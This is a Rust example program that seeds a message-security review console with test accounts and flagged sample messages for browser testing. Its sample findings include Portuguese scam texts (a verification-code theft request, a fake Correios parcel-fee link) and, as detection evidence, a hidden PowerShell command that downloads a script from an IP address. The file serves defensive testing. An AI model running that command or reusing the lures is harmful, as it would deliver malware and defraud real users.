//! The console over made-up messages, for tests in a browser and for working on pages: no clamd, no gateway, nothing kept.
//!
//!     cargo run -p guarita-console --features seeded --example seeded
//!
//! Arguments: where to listen, and a file of hostile texts, one a line, each sent as name, text and file name.
//!
//! Prints one line of JSON: where it listens, the accounts with their passwords and TOTP keys, the ids of the messages.

use guarita_console::{
    Actor, Config, Role,
    people::{Stage, code_now},
    seeded::{Outcome, Seeded, seeded},
};
use guarita_message::{Category, Finding, Severity, Subject};
use serde_json::json;

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let listen = std::env::args().nth(1).unwrap_or_else(|| "127.0.0.1:0".into());
    let mut seeded = seeded(Config::default()).await;
    if let Some(file) = std::env::args().nth(2) {
        hostile(&mut seeded, &std::fs::read_to_string(file)?).await;
    }
    fill(&mut seeded).await;
    let mut people = Vec::new();
    for (name, role) in [("vera", Role::Viewer), ("rui", Role::Reviewer), ("ana", Role::Admin)] {
        people.push(account(&seeded, name, role).await?);
    }
    let first = seeded.desk.people().add(&Actor::local("example"), "novo", Role::Viewer).await?;
    let listener = tokio::net::TcpListener::bind(&listen).await?;
    let hostile: Vec<_> = seeded.ids.iter().filter(|(what, _)| *what == "hostile").map(|(_, id)| id).collect();
    let ids: serde_json::Map<String, serde_json::Value> =
        seeded.ids.iter().map(|(what, id)| ((*what).to_owned(), json!(id))).collect();
    #[allow(clippy::print_stdout)] // what this command is for
    {
        println!(
            "{}",
            json!({"url": format!("http://{}", listener.local_addr()?), "people": people, "ids": ids,
                "hostile": hostile, "setup": format!("/setup/{first}"), "virus": seeded.virus})
        );
    }
    let router = guarita_console::router(seeded.desk.clone());
    guarita_console::serve(listener, router, 256, async {
        let _ = tokio::signal::ctrl_c().await;
    })
    .await;
    Ok(())
}

/// An account that is all set up, second step included.
async fn account(seeded: &Seeded, name: &str, role: Role) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
    let people = seeded.desk.people();
    let password = "correto cavalo bateria grampo".to_owned();
    people.add_with_password(&Actor::local("example"), name, role, &password).await?;
    let session = people.log_in(name, &password, None).await?;
    assert_eq!(session.stage, Stage::SetUpSecondStep);
    let open = people.session(&session.secret).await?.ok_or("it was just opened")?;
    let offer = people.offer_second_step(&open).await?;
    let code = code_now(&offer.secret, seeded.desk.now_ms()).ok_or("the key was just made")?;
    let (_, codes) = people.confirm_second_step(&session.secret, &code, None).await?;
    Ok(json!({"name": name, "role": role, "password": password, "totp": offer.secret, "recovery": codes}))
}

/// Each line wherever a stranger's words may stand: names, texts, captions, file names, evidence, even a rule's id.
async fn hostile(seeded: &mut Seeded, lines: &str) {
    for line in lines.lines().filter(|line| !line.is_empty() && !line.starts_with("# ")) {
        let found = Finding {
            rule: format!("texts/{line}"),
            category: Category::Scam,
            severity: Severity::Critical,
            place: "/document/caption".into(),
            inside: line.to_owned(),
            title: line.to_owned(),
            why: line.to_owned(),
            evidence: Finding::evidence_of(line),
            subject: Subject::Text,
            span: Some((0, line.len())),
            shadow: false,
        };
        let content = json!({"type": "document",
            "document": {"id": "900001", "filename": line, "mime_type": line, "caption": line}});
        seeded.put("hostile", line, line, content, vec![found], Outcome::Held).await;
    }
}

/// What a day brings, so that lists and charts have something to show.
async fn fill(seeded: &mut Seeded) {
    let text = |body: &str| json!({"type": "text", "text": {"body": body}});
    let code =
        "Oi, sem querer mandei um código de 6 dígitos por SMS pro seu número. Pode me enviar o código que chegou?";
    let parcel = "Correios: sua encomenda foi taxada. Regularize em https://correios-taxa-pagamento.top/rastreio hoje";
    let found = Finding {
        rule: "texts/code-theft".into(),
        category: Category::CodeTheft,
        severity: Severity::Medium,
        place: "/text/body".into(),
        inside: String::new(),
        title: "Someone asks for a verification code".into(),
        why: "The code that arrives by SMS gives the account away; nobody else needs it.".into(),
        evidence: Finding::evidence_of("Pode me enviar o código que chegou"),
        subject: Subject::Text,
        span: code.find("Pode").map(|start| (start, code.len() - 1)),
        shadow: false,
    };
    seeded.put("code", "Marcos Prado", "5511955554444", text(code), vec![found.clone()], Outcome::Sent).await;
    let link = Finding {
        rule: "links/lookalike-brand".into(),
        category: Category::LookalikeLink,
        severity: Severity::High,
        title: "The address imitates Correios".into(),
        why: "The brand's name stands in a domain that is not the brand's.".into(),
        evidence: Finding::evidence_of("https://correios-taxa-pagamento.top/rastreio"),
        subject: Subject::Link,
        span: parcel.find("https").map(|start| (start, parcel.len() - 5)),
        ..found.clone()
    };
    let scam = Finding {
        rule: "texts/scam-parcel-fee".into(),
        category: Category::Scam,
        severity: Severity::Medium,
        title: "A parcel is said to wait for a fee".into(),
        why: "Carriers do not ask for fees in a chat; the link leads to a page that takes the card.".into(),
        evidence: Finding::evidence_of("sua encomenda foi taxada"),
        span: Some((10, 34)),
        shadow: true,
        ..found.clone()
    };
    seeded.put("parcel", "Correios Brasil", "5511944443333", text(parcel), vec![link, scam], Outcome::Sent).await;
    let eicar = Finding {
        rule: "clamav/Win.Test.EICAR_HDB-1".into(),
        category: Category::Malware,
        severity: Severity::Critical,
        place: "/document".into(),
        inside: "Fatura_2026-11.zip › Fatura_2026-11.pdf.lnk".into(),
        title: "Known malware".into(),
        why: "ClamAV knows this very file.".into(),
        evidence: "Win.Test.EICAR_HDB-1".into(),
        subject: Subject::File,
        span: None,
        ..found
    };
    let shortcut = Finding {
        rule: "files/shortcut-runs-program".into(),
        category: Category::Executable,
        severity: Severity::High,
        title: "A shortcut that starts PowerShell".into(),
        why: "Opening it runs a command instead of showing a document.".into(),
        evidence: "powershell -w hidden -c iwr http://198.51.100.7/a.ps1".into(),
        ..eicar.clone()
    };
    // The last two are there to be deleted: what they hold is theirs alone.
    for (what, name, file, media) in [
        ("worm", "Fornecedor Silva", "Fatura_2026-11.zip", "900001"),
        ("worm2", "João P.", "comprovante.pdf", "900008"),
        ("spare", "Ricardo T.", "orcamento.pdf", "900009"),
    ] {
        let content = json!({"type": "document", "document": {"id": media, "filename": file, "mime_type": "application/pdf", "caption": "Segue a fatura, abra no computador"}});
        seeded.put(what, name, "5521933332222", content, vec![eicar.clone(), shortcut.clone()], Outcome::Held).await;
    }
    let photo =
        json!({"type": "image", "image": {"id": "900001", "filename": "foto.jpg", "caption": "é deste modelo?"}});
    seeded.put("photo", "Júlia Reis", "5511922221111", photo, Vec::new(), Outcome::Sent).await;
    for number in 0..130u32 {
        let phone = format!("55119{:08}", 10_000_000 + number * 7919 % 80_000_000);
        let asked = [
            "Bom dia! Vocês abrem no sábado?",
            "Qual o prazo para o CEP 01310-100?",
            "Obrigada!",
            "Segue o comprovante",
        ];
        seeded.put("many", "Cliente", &phone, text(asked[number as usize % 4]), Vec::new(), Outcome::Sent).await;
    }
}
